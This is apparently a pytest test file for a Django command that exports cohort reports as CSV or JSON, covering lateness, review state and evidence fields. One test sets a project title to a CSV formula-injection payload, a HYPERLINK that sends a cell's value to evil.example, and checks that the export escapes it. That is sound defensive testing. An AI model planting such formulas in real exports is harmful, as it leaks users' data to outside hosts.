"""export_reports: every report of a cohort, CSV or JSON, with lateness and review."""

import csv
import datetime
import json
from io import StringIO

import pytest
from django.core.management import CommandError, call_command

from reports.models import GitHubEvidence, ReferenceCheck, Report, Review, Revision
from tests.factories import AllowanceFactory, ReportFactory, ReviewFactory


def export(*args):
    out = StringIO()
    call_command("export_reports", *args, stdout=out)
    return out.getvalue()


@pytest.fixture
def reports(camp):
    p1, p2 = camp.period(1), camp.period(2)
    on_time = ReportFactory(
        student=camp.alice,
        period=p1,
        claimed_start=datetime.date(2025, 3, 1),
        claimed_end=datetime.date(2025, 3, 16),
    )
    ReviewFactory(report=on_time, mentor=camp.mentor_a, verdict=Review.Verdict.NEEDS_CHANGES)
    ReportFactory(student=camp.bob, period=p1, submitted_at=p1.due_at + datetime.timedelta(hours=1))
    extended = ReportFactory(
        student=camp.carol, period=p1, submitted_at=p1.due_at + datetime.timedelta(hours=1)
    )
    AllowanceFactory(
        student=camp.carol,
        period=p1,
        kind="extension",
        extended_due_at=p1.due_at + datetime.timedelta(days=2),
    )
    ReportFactory(student=camp.alice, period=p2, status="draft", source="github-comment")
    ReportFactory(student=camp.outsider, period=camp.other_cohort.periods.get(number=1))
    return extended


def test_json_export(reports):
    records = json.loads(export("camp", "--format", "json"))
    assert [(r["student"], r["period"]) for r in records] == [
        ("alice", 1),
        ("bob", 1),
        ("carol", 1),
        ("alice", 2),
    ]
    alice = records[0]
    assert alice == {
        "student": "alice",
        "project": "项目一：算子补全",
        "period": 1,
        "period_start": "2025-03-03",
        "period_end": "2025-03-16",
        "claimed_start": "2025-03-01",
        "claimed_end": "2025-03-16",
        "status": "submitted",
        "submitted_at": "2025-03-17T21:59:00+08:00",
        "late": False,
        "source": "web",
        "reviewed": True,
        "review_verdict": "needs_changes",
        "evidence": {
            "prs_opened": None,
            "prs_merged": None,
            "reviews_given": None,
            "issues_opened": None,
            "references": [],
        },
        "state": "needs_changes",
    }
    assert records[1]["late"] is True and records[1]["reviewed"] is False
    assert records[1]["state"] == "late"
    assert records[2]["late"] is False, "an extension moves the deadline"
    assert records[2]["state"] == "on_time"
    assert records[3]["status"] == "draft" and records[3]["submitted_at"] is None


def test_json_export_carries_evidence(camp, reports):
    on_time = Report.objects.get(student=camp.alice, period=camp.period(1))
    GitHubEvidence.objects.create(
        student=camp.alice,
        period=camp.period(1),
        login="alice",
        prs_opened_count=2,
        prs_merged_count=1,
        reviews_given_count=3,
        fetched_at=on_time.submitted_at,
    )
    for ref, state, by_student in [("a/b#1", "merged", True), ("a/b#2", "missing", False)]:
        ReferenceCheck.objects.create(
            report=on_time,
            ref=ref,
            url="https://github.com/a/b/issues/1",
            state=state,
            by_student=by_student,
            checked_at=on_time.submitted_at,
        )
    records = json.loads(export("camp", "--format", "json"))
    assert records[0]["evidence"] == {
        "prs_opened": 2,
        "prs_merged": 1,
        "reviews_given": 3,
        "issues_opened": 0,
        "references": [
            {"ref": "a/b#1", "state": "merged", "by_student": True, "reviewed_by_student": False},
            {"ref": "a/b#2", "state": "missing", "by_student": False, "reviewed_by_student": False},
        ],
    }
    assert records[1]["evidence"]["prs_merged"] is None
    rows = list(csv.DictReader(StringIO(export("camp"))))
    assert "evidence" not in rows[0]


def test_json_export_says_resubmitted_for_a_report_changed_after_its_review(camp):
    report = ReportFactory(student=camp.alice, period=camp.period(1))
    review = ReviewFactory(report=report, mentor=camp.mentor_a, verdict=Review.Verdict.APPROVED)
    [record] = json.loads(export("camp", "--format", "json"))
    assert (record["review_verdict"], record["state"]) == ("approved", "reviewed")
    Revision.objects.create(
        report=report,
        body="edited after the review",
        source="web",
        created_at=review.created_at + datetime.timedelta(minutes=1),
    )
    [record] = json.loads(export("camp", "--format", "json"))
    assert (record["review_verdict"], record["state"]) == ("approved", "resubmitted")


def test_csv_export(reports):
    rows = list(csv.DictReader(StringIO(export("camp"))))
    assert len(rows) == 4
    assert rows[1]["student"] == "bob" and rows[1]["late"] == "True"
    assert rows[3]["submitted_at"] == ""


def test_unknown_cohort(camp):
    with pytest.raises(CommandError, match="No cohort with slug 'nope'"):
        export("nope")


def test_csv_export_writes_formulas_as_text(reports, camp):
    camp.project_a.title = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    camp.project_a.save()
    rows = list(csv.DictReader(StringIO(export("camp"))))
    assert rows[0]["project"] == "'" + camp.project_a.title
    assert rows[0]["submitted_at"] == "2025-03-17T21:59:00+08:00"
    # JSON is data, not a spreadsheet: it keeps the title as typed.
    assert json.loads(export("camp", "--format", "json"))[0]["project"] == camp.project_a.title
